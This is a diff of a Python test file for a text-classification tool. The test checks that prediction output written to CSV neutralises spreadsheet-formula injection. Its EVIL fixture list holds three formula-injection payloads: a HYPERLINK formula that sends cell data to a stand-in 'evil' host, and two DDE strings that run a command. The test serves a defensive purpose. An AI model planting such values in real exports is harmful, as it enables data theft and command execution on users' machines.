@@ -12,7 +12,7 @@ from kwct_ml.io import cells
 from kwct_ml.labelling import merge as labelling_merge
 from kwct_ml.labelling import sheet as labelling_sheet
 
-from .conftest import CONDEMNATION, SUPPORT
+from .conftest import CONDEMNATION, SUPPORT, run_predict
 
 EVIL = ['=HYPERLINK("http://evil/?"&A2,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
 
@@ -44,18 +44,14 @@ def test_prepare_sheet_cells_are_inert_and_merge_restores_the_text(tmp_path, dat
     assert set(EVIL) <= set(merged["text"])  # the corpus holds the article's own text
 
 
-def test_predict_bom_output_cells_are_inert(tmp_path, repo_dir):
-    from .test_predict import train_tiny_model
-    from .test_transaction import _predict
-
-    model_dir = train_tiny_model(repo_dir, tmp_path / "models")
+def test_predict_bom_output_cells_are_inert(tmp_path, model_dir):
     (tmp_path / "evil.txt").write_text("\n".join([CONDEMNATION, *EVIL]) + "\n", encoding="utf-8")
     out = tmp_path / "out.csv"
-    assert _predict(model_dir, tmp_path / "evil.txt", "-o", out, "--bom")[0] == 0
+    assert run_predict(model_dir, tmp_path / "evil.txt", "-o", out, "--bom")[0] == 0
     with open(out, encoding="utf-8-sig", newline="") as handle:
         texts = [r["text"] for r in csv.DictReader(handle)]
     assert len(texts) == 4 and not any(t.startswith(cells.FORMULA_STARTS) for t in texts)
     assert [cells.restore(t) for t in texts[1:]] == EVIL
-    assert _predict(model_dir, tmp_path / "evil.txt", "-o", out)[0] == 0  # without --bom: verbatim
+    assert run_predict(model_dir, tmp_path / "evil.txt", "-o", out)[0] == 0  # without --bom: verbatim
     with open(out, encoding="utf-8", newline="") as handle:
         assert [r["text"] for r in csv.DictReader(handle)][1:] == EVIL
